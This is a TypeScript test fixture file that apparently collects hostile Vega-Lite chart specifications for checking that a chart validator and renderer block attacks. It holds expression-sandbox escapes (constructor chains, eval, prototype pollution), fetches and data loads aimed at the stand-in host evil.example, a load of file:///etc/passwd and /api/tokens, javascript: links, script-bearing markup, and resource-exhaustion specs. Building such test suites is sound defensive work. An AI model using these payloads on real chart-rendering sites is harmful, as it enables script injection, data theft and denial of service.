/**
 * Charts by an attacker who wants to run script, send a request, or hang a page. Each is tried against the checker of
 * the server and, as if that had accepted it, against the frame that draws.
 */
export interface HostileChart {
  readonly name: string
  readonly spec: Readonly<Record<string, unknown>>
}

export const EVIL = "http://evil.example"
/** The mark that a successful attack leaves: in the console, in the requests, or in a global variable. */
export const CANARY = "pawl-canary"

const values = [
  { a: "A", b: 28, c: "2024-01-01" },
  { a: "B", b: 55, c: "2024-01-02" },
]
const data = { values }
const bar = {
  data,
  mark: "bar",
  encoding: { x: { field: "a", type: "nominal" }, y: { field: "b", type: "quantitative" } },
}
const bars = (more: object) => ({ ...bar, ...more })
const code = `console.log('${CANARY}');fetch('${EVIL}/code')`
const calculate = (expression: string) =>
  bars({ transform: [{ calculate: expression, as: "d" }, { filter: "datum.d !== 1" }] })
const filter = (expression: string) => bars({ transform: [{ filter: expression }] })
const textOf = (expression: string) => bars({ mark: { type: "text", text: { expr: expression } } })
const marked = (mark: object, encoding: object = {}) => bars({ mark, encoding: { ...bar.encoding, ...encoding } })

const expressions: Readonly<Record<string, string>> = {
  "the window by name": `window.alert('${CANARY}')`,
  "the global": `globalThis.console.log('${CANARY}')`,
  self: `self.fetch('${EVIL}/self')`,
  fetch: `fetch('${EVIL}/fetch')`,
  eval: `eval("${code}")`,
  Function: `Function("${code}")()`,
  importScripts: `importScripts('${EVIL}/x.js')`,
  "a constructor chain from a text": `'a'.constructor.constructor("${code}")()`,
  "a constructor chain from a list": `[].constructor.constructor("${code}")()`,
  "a constructor chain from a row": `datum.constructor.constructor("${code}")()`,
  "a computed constructor": `datum['const' + 'ructor']['const' + 'ructor']("${code}")()`,
  "a constructor of a function's result": `toString.constructor("${code}")()`,
  "a constructor of a colour": `rgb('red').constructor.constructor("${code}")()`,
  "a constructor of a date": `datetime(2020)['constructor']['constructor']("${code}")()`,
  "a constructor of a regular expression": `regexp('a').constructor.constructor("${code}")()`,
  "a literal's constructor by the map of a list": `[1].map([].constructor.constructor("${code}"))`,
  "replace with a function from a chain": `replace('a', /a/, [].constructor.constructor("${code}"))`,
  "sort with a function from a chain": `sort([1, 2], [].constructor.constructor("${code}"))`,
  "an object with toString": `'' + {toString: [].constructor.constructor("${code}")}`,
  "an object with valueOf": `1 + {valueOf: [].constructor.constructor("${code}")}`,
  "a computed toString key": `'' + {['to' + 'String']: 1}`,
  "an object whose key is a text": `'' + {'toString': event.view.alert}`,
  "an object with __proto__": `{'__proto__': {x: 1}}.x`,
  "the view of an event": `event.view.alert('${CANARY}')`,
  "the data flow of an event": `event.dataflow._el.ownerDocument.defaultView.alert('${CANARY}')`,
  "the item's path to the view": `item.mark.group.context.dataflow.loader().load('${EVIL}/item')`,
  "group()": `group().context.dataflow.loader().load('${EVIL}/group')`,
  "view of this": `this.context.dataflow.loader().load('${EVIL}/this')`,
  "vlSelectionTuples with a prototype": `vlSelectionTuples([{datum: {x: 1}}], {fields: [{getter: [].constructor.constructor("${code}")}]})`,
  "vlSelectionTuples with the row's own": `vlSelectionTuples([{datum: datum}], {unit: 'x', fields: [{getter: datum.constructor.constructor}]})`,
  "vlSelectionTest on a prototype": `vlSelectionTest('__proto__', datum)`,
  "vlSelectionResolve on a prototype": `vlSelectionResolve('constructor', 'union')`,
  "modify a prototype": `modify('__proto__', [{polluted: 1}])`,
  setdata: `setdata('source_0', [])`,
  "data of a prototype": `data('__proto__')`,
  "scale of a prototype": `scale('constructor', "${code}")`,
  "scale by a chain": `scale('x', 1).constructor.constructor("${code}")()`,
  "invert of a prototype": `invert('__proto__', 1)`,
  geoShape: `geoShape('constructor', "${code}")`,
  "pathShape with markup": `pathShape('<img src=x onerror=alert(1)>')`,
  warn: `warn('${CANARY}')`,
  info: `info('${CANARY}')`,
  debug: `debug('${CANARY}')`,
  screen: `screen().constructor.constructor("${code}")()`,
  containerSize: `containerSize()[0].constructor.constructor("${code}")()`,
  windowSize: `windowSize().constructor.constructor("${code}")()`,
  encode: `encode(item, 'constructor')`,
  intersect: `intersect([[0, 0], [1, 1]], {markname: '__proto__'})`,
  inScope: `inScope(item)`,
  "merge into a prototype": `merge({}, {'constructor': {'prototype': {x: 1}}})`,
  "pluck a constructor": `pluck([datum], 'constructor')[0]("${code}")`,
  "extent of a chain": `extent([].constructor.constructor("${code}")())`,
  "a template literal": "`${alert(1)}`",
  "an arrow": `(() => alert('${CANARY}'))()`,
  "an assignment": `datum.a = window.alert('${CANARY}')`,
  new: `new Function("${code}")()`,
  "a sequence of expressions": `(1, eval)("${code}")`,
  "Unicode in a name": `datum.\\u0063onstructor.constructor("${code}")()`,
  "a name with _": `_scale('x', 1)`,
  "an underscore function": `_constructor("${code}")`,
  "hasOwnProperty as a function": `hasOwnProperty('a')`,
  "__defineGetter__ as a function": `__defineGetter__('x', datum)`,
  "valueOf as a function": `valueOf().constructor`,
  "toString of the context": `__proto__.toString()`,
  "a parameter named as a global": `constructor`,
  atob: `atob('YWxlcnQoMSk=').constructor.constructor("${code}")()`,
}

const slow: Readonly<Record<string, string>> = {
  "a sequence of a thousand million": `sequence(0, 1e9).length`,
  "a list of lists": `length(sequence(0, 1e7)) + length(sequence(0, 1e7)) + length(sequence(0, 1e7))`,
  "a text padded to a gigabyte": `length(pad('a', 1e9, 'b', 'left'))`,
  "a regular expression that never ends": `test(/^(a+)+$/, 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')`,
  "milliseconds of a thousand years": `length(timeSequence('milliseconds', datetime(1000), datetime(3000)))`,
  "a format a mile wide": `length(format(1, '099999999d'))`,
  "a split into a hundred million": `length(split(pad('', 1e8, 'a'), ''))`,
}

/** Script, requests, addresses. */
export const hostileCharts: readonly HostileChart[] = [
  ...Object.entries(expressions).flatMap(([name, expression]) => [
    { name: `calculate: ${name}`, spec: calculate(expression) },
    { name: `expr: ${name}`, spec: textOf(expression) },
  ]),
  ...Object.entries(expressions)
    .slice(0, 12)
    .flatMap(([name, expression]) => [
      { name: `filter: ${name}`, spec: filter(expression) },
      {
        name: `condition: ${name}`,
        spec: marked({ type: "bar" }, { color: { condition: { test: expression, value: "red" }, value: "blue" } }),
      },
      {
        name: `labelExpr: ${name}`,
        spec: marked({ type: "bar" }, { x: { field: "a", type: "nominal", axis: { labelExpr: expression } } }),
      },
      { name: `a parameter: ${name}`, spec: bars({ params: [{ name: "p", expr: expression }] }) },
    ]),
  { name: "data from elsewhere", spec: { ...bar, data: { url: `${EVIL}/data.json` } } },
  { name: "data from a file", spec: { ...bar, data: { url: "file:///etc/passwd" } } },
  { name: "data from our own server", spec: { ...bar, data: { url: "/api/tokens" } } },
  { name: "data from a data address", spec: { ...bar, data: { url: "data:application/json,[]" } } },
  { name: "data of a layer from elsewhere", spec: { data, layer: [{ ...bar, data: { url: `${EVIL}/layer.csv` } }] } },
  {
    name: "a lookup elsewhere",
    spec: bars({
      transform: [{ lookup: "a", from: { data: { url: `${EVIL}/lookup.json` }, key: "a", fields: ["x"] } }],
    }),
  },
  { name: "named data sets", spec: { ...bar, data: { name: "x" }, datasets: { x: values } } },
  { name: "an image mark", spec: marked({ type: "image", url: `${EVIL}/image.png`, width: 50, height: 50 }) },
  { name: "an image by encoding", spec: marked({ type: "image" }, { url: { value: `${EVIL}/encoded.png` } }) },
  {
    name: "an image from a data address",
    spec: marked({
      type: "image",
      url: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    }),
  },
  { name: "an image as script", spec: marked({ type: "image", url: `javascript:${code}` }) },
  { name: "a link as script", spec: marked({ type: "bar", href: `javascript:${code}` }) },
  { name: "a link elsewhere", spec: marked({ type: "bar" }, { href: { value: `${EVIL}/link` } }) },
  { name: "a link from a field", spec: marked({ type: "bar" }, { href: { field: "a" } }) },
  { name: "a link in upper case", spec: marked({ type: "bar", href: `JaVaScRiPt:${code}` }) },
  {
    name: "a tooltip with a picture",
    spec: marked(
      { type: "bar", tooltip: { content: "data" } },
      { tooltip: [{ field: "a" }], url: { value: `${EVIL}/tip.png` } },
    ),
  },
  {
    name: "a tooltip with markup",
    spec: marked({ type: "bar", tooltip: { signal: `{'title': '<img src=${EVIL}/tip onerror=alert(1)>'}` } }),
  },
  {
    name: "usermeta for an embedder",
    spec: bars({
      usermeta: {
        embedOptions: { loader: { baseURL: EVIL }, actions: true, defaultStyle: `@import url(${EVIL}/x.css)` },
      },
    }),
  },
  { name: "a font from elsewhere", spec: bars({ config: { font: `x; src: url(${EVIL}/font.woff)` } }) },
  { name: "a fill that is an address", spec: { ...marked({ type: "bar", fill: `url(${EVIL}/fill.svg#x)` }) } },
  {
    name: "a cursor that is an address",
    spec: { ...marked({ type: "bar", cursor: `url(${EVIL}/cursor.png), auto` }) },
  },
  {
    name: "signals in the configuration",
    spec: bars({
      config: { signals: [{ name: "s", init: `warn('${CANARY}')`, on: [{ events: "window:load", update: code }] }] },
    }),
  },
  { name: "events in the configuration", spec: bars({ config: { events: { defaults: { allow: ["wheel"] } } } }) },
  { name: "a format of one's own", spec: bars({ config: { customFormatTypes: true, numberFormatType: "warn" } }) },
  {
    name: "a format type that is a function",
    spec: marked({ type: "text" }, { text: { field: "b", format: "x", formatType: "eval" } }),
  },
  {
    name: "a control bound to an element",
    spec: bars({ params: [{ name: "p", value: 1, bind: { input: "text", element: "body" } }] }),
  },
  {
    name: "a control of markup",
    spec: bars({
      params: [
        {
          name: "p",
          value: 1,
          bind: { input: "select", options: ["<img src=x onerror=alert(1)>"], name: "<script>alert(1)</script>" },
        },
      ],
    }),
  },
  {
    name: "a selection on the window",
    spec: bars({ params: [{ name: "p", select: { type: "point", on: `window:mousemove[${code}]` } }] }),
  },
  {
    name: "a selection that clears by script",
    spec: bars({
      params: [
        {
          name: "p",
          select: { type: "interval", on: `[mousedown[event.view.alert('${CANARY}')], mouseup] > mousemove` },
        },
      ],
    }),
  },
  { name: "a selection's own name", spec: bars({ params: [{ name: "constructor", select: "point" }] }) },
  { name: "a parameter of a prototype", spec: bars({ params: [{ name: "__proto__", value: 1 }] }) },
  {
    name: "a signal as domain",
    spec: marked({ type: "bar" }, { y: { field: "b", type: "quantitative", scale: { domain: { signal: code } } } }),
  },
  { name: "a signal as title", spec: bars({ title: { text: { signal: `warn('${CANARY}')` } } }) },
  {
    name: "a field that is code",
    spec: marked({ type: "bar" }, { y: { field: `b'];${code};//`, type: "quantitative" } }),
  },
  {
    name: "a field of a prototype",
    spec: marked({ type: "bar" }, { y: { field: "__proto__.polluted", type: "quantitative" } }),
  },
  {
    name: "a field that is a constructor",
    spec: marked({ type: "bar" }, { y: { field: "constructor.constructor", type: "quantitative" } }),
  },
  {
    name: "a name made by a transform that is code",
    spec: bars({ transform: [{ calculate: "1", as: `x'];${code};//` }] }),
  },
  { name: "a prototype made by a transform", spec: bars({ transform: [{ calculate: "1", as: "__proto__" }] }) },
  {
    name: "a shape of markup",
    spec: marked({ type: "point", shape: `M0,0"/><script>console.log('${CANARY}')</script>` }),
  },
  {
    name: "a clip path of markup",
    spec: { ...marked({ type: "bar", clip: { path: `M0,0"/><script>console.log('${CANARY}')</script>` } }) },
  },
  {
    name: "a map from elsewhere",
    spec: { data: { url: `${EVIL}/map.json`, format: { type: "topojson", feature: "x" } }, mark: "geoshape" },
  },
]

/** Text that resembles script or markup: the checker accepts it, and it is drawn as text. */
export const markupCharts: readonly HostileChart[] = [
  { name: "markup as title", spec: bars({ title: `<img src=x onerror="console.log('${CANARY}')">` }) },
  { name: "markup as description", spec: bars({ description: `"><script>console.log('${CANARY}')</script>` }) },
  { name: "markup in an expression", spec: calculate(`'<img src=${EVIL}/markup onerror=console.log("${CANARY}")>'`) },
  {
    name: "markup as a label",
    spec: marked({ type: "bar" }, { x: { field: "a", title: "]]><svg/onload=alert(1)>" } }),
  },
]

/** Expressions that would keep a browser busy for ever, or use up its memory. */
export const hugeCharts: readonly HostileChart[] = [
  ...Object.entries(slow).map(([name, expression]) => ({ name, spec: calculate(expression) })),
  {
    name: "a thousand million made rows",
    spec: {
      data: { sequence: { start: 0, stop: 1e9, as: "a" } },
      mark: "point",
      encoding: { x: { field: "a", type: "quantitative" } },
    },
  },
  {
    name: "ten million made rows",
    spec: {
      data: { sequence: { start: 0, stop: 1e7, as: "a" } },
      mark: "point",
      encoding: { x: { field: "a", type: "quantitative" } },
    },
  },
  {
    name: "rows times rows times rows",
    spec: {
      data: { values: [{ a: listOf(400), b: listOf(400), c: listOf(400) }] },
      transform: [{ flatten: ["a"] }, { flatten: ["b"] }, { flatten: ["c"] }],
      mark: "point",
      encoding: { x: { field: "a", type: "quantitative" } },
    },
  },
  {
    name: "columns folded into each other",
    spec: bars({ transform: Array.from({ length: 4 }, () => ({ fold: Array.from({ length: 50 }, () => "b") })) }),
  },
  {
    name: "calculated lists times each other",
    spec: bars({
      transform: [
        ...["s", "t", "u"].map((name) => ({ calculate: "sequence(0, 5000)", as: name })),
        ...["s", "t", "u"].map((name) => ({ flatten: [name] })),
      ],
    }),
  },
  {
    name: "gaps filled for ever",
    spec: bars({ transform: [{ impute: "b", key: "b", keyvals: { start: 0, stop: 1e9, step: 1 }, value: 0 }] }),
  },
  {
    name: "bins without number",
    spec: marked({ type: "bar" }, { x: { field: "b", type: "quantitative", bin: { step: 1e-9 } } }),
  },
  {
    name: "bins at most a thousand million",
    spec: marked(
      { type: "bar" },
      { x: { field: "b", type: "quantitative", bin: { maxbins: 1e9, extent: [0, 1e9], step: 1 } } },
    ),
  },
  {
    name: "a thousand million ticks",
    spec: marked({ type: "bar" }, { y: { field: "b", type: "quantitative", axis: { tickCount: 1e9 } } }),
  },
  {
    name: "a tick for each millisecond",
    spec: marked(
      { type: "bar" },
      { x: { field: "c", type: "temporal", axis: { tickCount: { interval: "millisecond", step: 1 } } } },
    ),
  },
  {
    name: "a million colours",
    spec: marked(
      { type: "bar" },
      {
        color: {
          field: "b",
          type: "quantitative",
          scale: { type: "quantize", scheme: { name: "viridis", count: 1e8 } },
        },
      },
    ),
  },
  { name: "a density of a thousand million steps", spec: bars({ transform: [{ density: "b", steps: 1e9 }] }) },
  { name: "a picture as large as a house", spec: { ...bar, width: 1e9, height: 1e9 } },
  {
    name: "a hundred repeated a hundred times",
    spec: {
      data,
      repeat: { row: listOf(100).map(String), column: listOf(100).map(String) },
      spec: { mark: "bar", encoding: { x: { field: { repeat: "row" } }, y: { field: { repeat: "column" } } } },
    },
  },
  { name: "nested a thousand deep", spec: { data, ...nested(1000) } },
  { name: "ten thousand layers", spec: { data, layer: Array.from({ length: 10_000 }, () => ({ mark: "bar" })) } },
  { name: "lines of a grid without number", spec: { data: { graticule: { step: [1e-5, 1e-5] } }, mark: "geoshape" } },
  { name: "a text of a megabyte", spec: { ...bar, title: "x".repeat(1_000_000) } },
]

function listOf(length: number): number[] {
  return Array.from({ length }, (_, at) => at)
}

function nested(levels: number): Record<string, unknown> {
  let spec: Record<string, unknown> = { mark: "bar" }
  for (let level = 0; level < levels; level++) spec = { hconcat: [spec] }
  return spec
}
